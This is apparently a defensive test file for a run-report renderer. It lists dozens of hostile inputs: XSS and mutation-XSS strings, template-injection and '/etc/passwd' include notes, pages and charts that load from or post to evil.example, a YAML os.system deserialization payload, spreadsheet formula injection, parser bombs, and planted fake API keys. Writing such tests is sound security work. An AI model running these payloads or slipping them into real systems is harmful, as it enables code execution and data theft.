"""The bad inputs that are texts: names, notes, values, YAML, JSON, CSV. Numbers are the classes' own."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from tests.hostile.cases import bad, metrics, plain_run, plot

ALERT = "<script>alert(1)</script>"
DEEP = 200_000


@bad(1, "a script for a run name")
def _(folder: Path) -> None:
    plain_run(folder, record={"name": ALERT, "group": ALERT})


@bad(2, "a name that leaves the title's attribute")
def _(folder: Path) -> None:
    plain_run(folder, record={"name": '"><img src=x onerror=alert(1)>'})


@bad(3, "a param key of quotes, newlines and a closed cell")
def _(folder: Path) -> None:
    plain_run(folder, params={"a\"'\n</td><td>": 1})


@bad(4, "a param value that closes a script")
def _(folder: Path) -> None:
    plain_run(folder, params={"x": "</script><!--<script>alert(1)//", "u": "\u2028\u2029"})


@bad(5, "a note with HTML and links that are programs")
def _(folder: Path) -> None:
    note = "<b onclick=alert(1)>x</b> [a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>"
    plain_run(folder, notes=note)


@bad(6, "twenty mutations that become a program when parsed twice")
def _(folder: Path) -> None:
    heads = (
        "math",
        "svg",
        "math><mtext",
        "svg><desc",
        "svg><title",
        "form><math",
        "table><math",
        "select><math",
        "noscript",
        "xmp",
    )
    tails = (
        "style><img src=x onerror=alert(1)>",
        'mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
    )
    plain_run(folder, notes="\n\n".join(f"<{head}><{tail}" for head in heads for tail in tails))


@bad(7, "notes that cost a parser its square", big=True)
def _(folder: Path) -> None:
    for name, note in {"brackets": "[" * 100_000, "quotes": ">" * 50_000, "stars": "*a_" * 50_000}.items():
        plain_run(folder / name, notes=note)


@bad(8, "fifty thousand open elements", big=True)
def _(folder: Path) -> None:
    plain_run(folder, notes="<div>" * 50_000)


@bad(9, "a note that is a template")
def _(folder: Path) -> None:
    plain_run(
        folder,
        notes="{{ 7*7 }} {% include '/etc/passwd' %} RUNPAGES-BODY",
        record={"name": "{{ config }} RUNPAGES-TITLE"},
    )


@bad(10, "a note that includes a file")
def _(folder: Path) -> None:
    plain_run(folder, notes='--8<-- "/etc/passwd"\n\n```runpages\nfigure: table\n```\n')


@bad(11, "a picture from elsewhere in a note")
def _(folder: Path) -> None:
    plain_run(
        folder,
        notes="<img src=//evil.example/p.gif> ![x](https://evil.example/p.gif) <link rel=stylesheet href=//evil.example>",
    )


@bad(12, "metrics called as what every object has")
def _(folder: Path) -> None:
    plain_run(folder, metrics="step,__proto__,constructor,toString,hasOwnProperty\n0,1,2,3,4\n1,2,3,4,5\n")


@bad(13, "metrics with the signs of a field's path")
def _(folder: Path) -> None:
    plain_run(folder, metrics='step,a.b,c[0],d\\e,"f\'g","h""i"\n0,1,2,3,4,5\n1,2,3,4,5,6\n')


@bad(14, "signs that turn the direction, have no width, or pile up")
def _(folder: Path) -> None:
    plain_run(folder, record={"name": "a\u202eb\u200bc" + "\u0301" * 10_000}, params={"\u2066x": "\u202e"})


@bad(15, "a name of ten megabytes", big=True)
def _(folder: Path) -> None:
    plain_run(folder, record={"name": "x" * 10_000_000})


@bad(16, "names that become one file")
def _(folder: Path) -> None:
    for name in ("CON", "con", "a.", "a", "A", "-", "nul.txt", "ä", "a b", "a-b"):
        plain_run(
            folder / name, record={"name": "/" if name == "-" else "" if name == "a" else ".." if name == "A" else name}
        )


@bad(17, "names that are options or parts of an address")
def _(folder: Path) -> None:
    for name in ("-rf", "100%25", "a#b", "q?x=1", "two words", "🎉", "a&b;c", "'quoted'"):
        plain_run(folder / name)


@bad(18, "names that mention people and issues")
def _(folder: Path) -> None:
    plain_run(folder, record={"name": "@team fixes #123 | `x` | [a](b)"}, params={"@everyone": "#1"})


@bad(19, "a metric that is a workflow command")
def _(folder: Path) -> None:
    plain_run(folder, metrics='step,"x\n::error::y",z%0A::set-output name=a::b\n0,1,2\n1,2,3\n')


@bad(20, "a drawing that is a program")
def _(folder: Path) -> None:
    text = (
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><foreignObject><iframe '
        'xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject><image href="https://evil.example/x"/></svg>'
    )
    plain_run(folder, files={"drawn.svg": text.encode()})


@bad(21, "a page that wants its parent")
def _(folder: Path) -> None:
    text = "<script>top.location='https://evil.example';parent.document.title='x';fetch('//evil.example')</script><form action=//evil.example>"
    plain_run(folder, files={"report.html": f"<!doctype html><html><body>{text}</body></html>".encode()})


def vega(**more: Any) -> dict[str, Any]:
    """A small Vega-Lite chart with something bad in it."""
    spec: dict[str, Any] = {"$schema": "https://vega.github.io/schema/vega-lite/v5.json", "mark": "point"}
    spec |= {"data": {"values": [{"x": 1, "y": 2}]}, "encoding": {"x": {"field": "x", "type": "quantitative"}}}
    return spec | more


VEGA: dict[int, tuple[str, dict[str, Any]]] = {
    22: (
        "an expression that calls a timer",
        vega(transform=[{"calculate": "scale(event.view.setTimeout, 'alert(1)')", "as": "z"}]),
    ),
    23: (
        "an expression whose text is made by a function",
        vega(transform=[{"calculate": "{toString: view.setTimeout} + ''", "as": "z"}]),
    ),
    24: (
        "data from elsewhere",
        vega(data={"url": "//evil.example/x.json"}, datasets={"a": {"url": "file:///etc/passwd"}}),
    ),
    25: (
        "options that bring a loader",
        vega(usermeta={"embedOptions": {"loader": {"baseURL": "//evil.example"}, "patch": "//evil.example/p"}}),
    ),
    26: (
        "a link that is a program",
        vega(
            mark="image", encoding={"url": {"value": "//evil.example/x.png"}, "href": {"value": "javascript:alert(1)"}}
        ),
    ),
    27: ("ten million rows out of nothing", vega(data={"sequence": {"start": 0, "stop": 10_000_000}})),
}
for _number, (_title, _spec) in VEGA.items():

    @bad(_number, f"a chart with {_title}")
    def _(folder: Path, spec: dict[str, Any] = _spec) -> None:
        plain_run(folder, files={"chart.vl.json": json.dumps(spec).encode(), "chart.json": json.dumps(spec).encode()})


@bad(28, "a page of a plotting library from a network")
def _(folder: Path) -> None:
    plain_run(
        folder,
        files={
            "plot.html": b"<html><script src='https://cdn.plot.ly/plotly-2.0.min.js'></script><div id=a></div></html>"
        },
    )


@bad(29, "a notebook with programs in its outputs")
def _(folder: Path) -> None:
    outputs = [
        {
            "data": {
                "text/html": [ALERT],
                "image/svg+xml": "<svg onload=alert(1)>",
                "text/latex": "\\href{javascript:alert(1)}{x}",
            }
        }
    ]
    cell = {"cell_type": "code", "source": "", "metadata": {"name": ALERT}, "outputs": outputs}
    plain_run(folder, files={"book.ipynb": json.dumps({"cells": [cell], "nbformat": 4, "metadata": {}}).encode()})


YAML = {
    30: ("a call of the system", "lr: 0.1\nx: !!python/object/apply:os.system ['touch /tmp/runpages-canary']\n"),
    31: ("a tag that nobody knows", "lr: 0.1\nx: !omega [1, 2]\ny: !Ref z\n"),
    32: (
        "aliases of aliases",
        "a: &a [x,x,x,x,x,x,x,x,x,x]\n"
        + "".join(f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 10)}]\n" for i in range(9)),
    ),
    33: ("itself inside itself", "a: &a\n  b: *a\nlr: 0.1\n"),
    34: ("five thousand brackets", "lr: 0.1\nx: " + "[" * 5000 + "]" * 5000 + "\n"),
    35: ("words that are numbers to some", "a: no\nb: 12:30:45\nc: 1e-3\nd: 2020-01-01\n1: x\ne: 0o17\nf: 1_000\n"),
}
for _number, (_title, _text) in YAML.items():

    @bad(_number, f"YAML with {_title}")
    def _(folder: Path, text: str = _text) -> None:
        plain_run(folder, params=None, files={"params.yaml": text.encode()})


JSON: dict[int, tuple[str, list[bytes]]] = {
    36: ("two hundred thousand levels", [b"[" * DEEP + b"]" * DEEP]),
    37: (
        "numbers that are none elsewhere",
        [b'{"a": ' + b"9" * 5000 + b', "b": 1e400, "c": -0.0, "d": NaN, "e": -Infinity}'],
    ),
    38: ("one name twice", [b'{"lr": 1, "lr": 2}']),
    39: (
        "other alphabets",
        [
            b'{"a": "\\ud800"}',
            b'\xef\xbb\xbf{"a": 1}',
            '{"a": "é"}'.encode("utf-16"),
            '{"a": "é"}'.encode("latin-1"),
            b'{"a": "\0"}',
        ],
    ),
}
for _number, (_title, _contents) in JSON.items():

    @bad(_number, f"JSON with {_title}", big=_number == 36)
    def _(folder: Path, contents: list[bytes] = _contents) -> None:
        for number, content in enumerate(contents):
            plain_run(folder / str(number), params=None, files={"params.json": content})


@bad(40, "lines cut inside a letter")
def _(folder: Path) -> None:
    plain_run(
        folder,
        metrics=None,
        files={"metrics.jsonl": '{"step": 0, "a": 1}\n{"step": 1, "a": 2}\n{"step": 2, "ä'.encode()[:-1]},
    )


@bad(41, "one bad line among good ones")
def _(folder: Path) -> None:
    plain_run(
        folder, metrics=None, files={"metrics.jsonl": b'{"step": 0, "a": 1}\n{"step": oops\n{"step": 2, "a": 3}\n'}
    )


@bad(42, "one line without an end", big=True)
def _(folder: Path) -> None:
    plain_run(folder, metrics=None)
    with (folder / "metrics.jsonl").open("wb") as file:
        file.write(b'{"step": 0, "a": 1}\n{"x": "')
        file.truncate(1 << 30)  # a hole: a gibibyte to read, nothing on the disk


@bad(43, "tables that are none")
def _(folder: Path) -> None:
    wide = "step," + ",".join(f"m{n}" for n in range(20_000)) + "\n0" + ",1" * 20_000 + "\n"
    texts = {
        "ragged": "step,a\n0,1,2\n1\n2,3\n",
        "double": "step,a,a\n0,1,2\n1,2,3\n",
        "nul": "step,a\n0,\0\n1,2\n",
        "head": "step,a\n",
    }
    for name, text in texts.items():
        plain_run(folder / name, metrics=text)
    if folder.name != "kept":
        plain_run(folder / "wide", metrics=wide[:90_000] + "\n")


@bad(44, "cells that a spreadsheet would run")
def _(folder: Path) -> None:
    plain_run(
        folder, record={"name": "=cmd|'/c calc'!A1"}, params={"a": "@SUM(A1)", "b": "\t=1", "c": "+1+1", "-x": "-2+3"}
    )


@bad(45, "a table of a hundred megabytes", big=True)
def _(folder: Path) -> None:
    plain_run(folder, metrics=None)
    with (folder / "metrics.csv").open("w") as file:
        file.write("step,loss\n")
        for block in range(40):
            file.write("".join(f"{block * 10_000 + n},0.123456789\n" for n in range(10_000)))


@bad(85, "numbers as people write them")
def _(folder: Path) -> None:
    plain_run(folder, metrics='step,a,b,c,d\n0,"0,5",1_000,nan%,True\n1,"0,6",2_000,5%,False\n')


@bad(75, "times that cannot be")
def _(folder: Path) -> None:
    for name, (start, end) in {
        "old": ("1970-01-01T00:00:00Z", "2100-01-01"),
        "back": ("2026-02-01", "2026-01-01"),
        "far": ("9999-99-99", "1e300"),
    }.items():
        plain_run(folder / name, record={"started": start, "ended": end})


@bad(84, "runs with next to nothing in them")
def _(folder: Path) -> None:
    plain_run(folder / "none", metrics=None)
    plain_run(folder / "words", metrics="step,a\n0,x\n1,y\n")
    plain_run(folder / "one", metrics="step,a\n0,1\n")
    (folder / "empty").mkdir(parents=True)


@bad(76, "a patch with keys in it")
def _(folder: Path) -> None:
    keys = ["AKI" + "A" + "Q3EGAB7YKLMN2PQR", "h" + "f_" + "aB3dE5gH7jK9mN1pQ3sT5vX7zA9cE1gI3k"]
    pem = "-----BEGIN PRI" + "VATE KEY-----\n+MIIEvQIBADANBg\n-----END PRI" + "VATE KEY-----"
    plain_run(folder, files={"local.patch": ("--- a/.env\n+++ b/.env\n+" + "\n+".join([*keys, pem])).encode()})


@bad(77, "a secret in every place that has a name")
def _(folder: Path) -> None:
    key = "gh" + "p_" + "a1B2" * 9
    files = {
        f"{key}.txt": key.encode(),
        "pic.png": plot(f"made with {key}".encode()),
        "book.ipynb": json.dumps({"cells": [key]}).encode(),
        "run.log": key.encode(),
    }
    plain_run(folder, record={"name": f"run {key}", "tags": {key: key}}, metrics=f"step,{key}\n0,1\n1,2\n", files=files)


@bad(78, "a secret under another coding")
def _(folder: Path) -> None:
    import base64

    key = "gh" + "p_" + "c1D2" * 9
    plain_run(
        folder,
        params={"a": key.replace("_", "%5F"), "b": base64.b64encode(key.encode()).decode()},
        notes=f"{key[:9]}<b>{key[9:]}</b>",
    )


@bad(79, "who and where in a tracker's own fields")
def _(folder: Path) -> None:
    from tests.privacy.planted import planted_run

    planted_run(folder)


@bad(80, "a configuration in a run's folder")
def _(folder: Path) -> None:
    text = b"site_name: !ENV HOME\nhooks: [evil.py]\nplugins: [runpages]\nx: !!python/name:os.system\n"
    plain_run(folder, files={"mkdocs.yml": text, "evil.py": b"open('/tmp/runpages-canary', 'w')\n"})


@bad(83, "two runs with one id")
def _(folder: Path) -> None:
    for name in ("one", "two"):
        plain_run(folder / name / "same", record={"name": "same"}, metrics=metrics(3))
